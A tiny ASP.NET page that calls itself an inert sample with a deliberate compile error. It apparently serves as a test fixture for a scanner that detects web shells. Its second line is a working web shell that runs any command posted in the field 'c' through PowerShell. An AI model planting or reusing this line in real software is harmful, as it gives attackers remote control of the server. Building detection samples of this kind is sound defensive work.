<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("powershell", Request.Form["c"]); System.Diagnostics.Process.Start(p); %>
